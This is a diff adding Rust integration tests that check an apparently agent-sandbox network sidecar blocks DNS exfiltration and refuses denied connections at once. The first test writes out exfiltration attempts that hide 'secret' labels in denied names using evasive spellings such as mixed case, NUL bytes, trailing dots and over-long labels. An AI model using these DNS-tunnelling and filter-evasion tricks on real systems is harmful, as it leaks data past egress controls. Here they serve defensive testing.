@@ -933,3 +933,143 @@ ask(\"bidi\", [\"\\u202egnp.exe\".encode(), b\"test\"])
     );
     ws.assert_nothing_left();
 }
+
+/// Attack (issue #17 item 7): smuggle data out in the labels of a denied name under
+/// `default = "deny"`, spelled so a naive matcher misses the deny rule — upper case, a trailing
+/// dot, a NUL ending the secret's label, a 63-byte label, a name one byte short of 255 — and
+/// an over-long label that a lenient parser might pass on. Expected: every query is answered by
+/// the sidecar itself (REFUSED, or FORMERR for what is not DNS) and no secret reaches the
+/// test's resolver; the plain allowed name (the control) does.
+#[test]
+fn denied_names_in_any_spelling_never_reach_the_upstream_resolver() {
+    let dev = Dev::get();
+    let hosts = TestHosts::create();
+    wait_answering(&[PUBLIC]);
+    let ws = dev.workspace("exfil-spellings").with_profile(
+        "exfil",
+        &profile(
+            "exfil",
+            &format!(
+                "resolvers = [\"{RESOLVER}\"]\nallow_names = [\"allowed.test\"]\n\
+                 deny_names = [\"*.exfil.test\"]\ndefault = \"deny\"\n"
+            ),
+        ),
+    );
+    let long = "s".repeat(63);
+    put(
+        &ws,
+        "ask.py",
+        &format!(
+            "{RAW_DNS}\
+ask(\"upper\", [b\"SECRETUPPER\", b\"X\", b\"EXFIL\", b\"TEST\"])
+ask(\"mixed\", [b\"secretMixed\", b\"eXfIl\", b\"tEsT\"])
+ask(\"nul\", [b\"secretnul\\x00\", b\"exfil\", b\"test\"])
+ask(\"long\", [b\"{long}\", b\"exfil\", b\"test\"])
+ask(\"toolong\", [b\"secrettoolong\" + b\"t\" * 60, b\"exfil\", b\"test\"])
+ask(\"max\", [b\"secretmax\" + b\"m\" * 54] + [b\"m\" * 63] * 2 + [b\"m\" * 50, b\"exfil\", b\"test\"])
+ask(\"control\", [b\"allowed\", b\"test\"])
+"
+        ),
+    );
+    let script = "python3 /workspace/ask.py; \
+         getent hosts secretdot.x.exfil.test. >/dev/null && echo dot=resolved || echo dot=unresolved; \
+         getent hosts SECRETGETENT.Exfil.Test >/dev/null && echo getent=resolved || echo getent=unresolved";
+    let r = ws.run(&["sh", "-c", script]);
+    assert_eq!(r.code, Some(0), "{r:?}");
+    assert_eq!(
+        lines(&r),
+        [
+            "upper=5/0",
+            "mixed=5/0",
+            "nul=5/0",
+            "long=5/0",
+            "toolong=1/0",
+            "max=5/0",
+            "control=0/1",
+            "dot=unresolved",
+            "getent=unresolved"
+        ],
+        "{r:?}"
+    );
+    let asked = hosts.names_asked().to_ascii_lowercase();
+    assert!(asked.contains("allowed.test"), "{asked}");
+    assert!(
+        !asked.contains("secret") && !asked.contains(&long),
+        "a secret went upstream: {asked}"
+    );
+    ws.assert_nothing_left();
+    drop(hosts);
+}
+
+/// Issue #17 item 6: a refusal the agent can understand. A connection the policy refuses
+/// fails at once — TCP with a reset (curl's "couldn't connect", exit 7, not a timeout, 28),
+/// UDP with an error on the send (or an ICMP error the socket reports) — and a refused name is answered REFUSED with no
+/// records at all (no TXT or other text the sandbox could be fed).
+#[test]
+fn refusals_are_immediate_and_say_refused() {
+    let dev = Dev::get();
+    let hosts = TestHosts::create();
+    wait_answering(&[PRIVATE[0]]);
+    let ws = dev.workspace("refusals").with_profile(
+        "refusals",
+        &profile(
+            "refusals",
+            &format!("resolvers = [\"{RESOLVER}\"]\ndeny_names = [\"denied.test\"]\n"),
+        ),
+    );
+    put(
+        &ws,
+        "refused.py",
+        &format!(
+            "{RAW_DNS}\
+import errno, socket, time
+t = time.monotonic()
+try:
+    socket.create_connection((\"{addr}\", {PORT}), 10)
+    print(\"tcp=open\")
+except socket.timeout:
+    print(\"tcp=timeout\")
+except ConnectionRefusedError:
+    print(\"tcp=refused\" if time.monotonic() - t < 2 else \"tcp=slow\")
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.settimeout(10)
+u.connect((\"{addr}\", {PORT}))
+t = time.monotonic()
+try:
+    u.send(b\"x\")
+    u.recv(64)
+    print(\"udp=answered\")
+except socket.timeout:
+    print(\"udp=timeout\")
+except OSError as e:
+    print(\"udp=\" + errno.errorcode.get(e.errno, str(e.errno)) if time.monotonic() - t < 2 else \"udp=slow\")
+ask(\"dns\", [b\"denied\", b\"test\"])
+",
+            addr = PRIVATE[0]
+        ),
+    );
+    let r = ws.run(&[
+        "sh",
+        "-c",
+        &format!(
+            "python3 /workspace/refused.py; curl -sS -m 10 -o /dev/null http://{}:{PORT}/ 2>/dev/null; echo curl=$?",
+            PRIVATE[0]
+        ),
+    ]);
+    assert_eq!(r.code, Some(0), "{r:?}");
+    let got = lines(&r);
+    assert_eq!(got[0], "tcp=refused", "{r:?}");
+    // The send itself fails (the reject in the sidecar's output hook: EPERM), or the ICMP
+    // error reaches the socket.
+    assert!(
+        ["udp=EPERM", "udp=EHOSTUNREACH", "udp=ECONNREFUSED"].contains(&got[1].as_str()),
+        "an immediate error, not a wait: {r:?}"
+    );
+    assert_eq!(got[2], "dns=5/0", "REFUSED, no records: {r:?}");
+    assert_eq!(
+        got[3], "curl=7",
+        "couldn't connect, not a timeout (28): {r:?}"
+    );
+    ws.assert_nothing_left();
+    drop(hosts);
+}
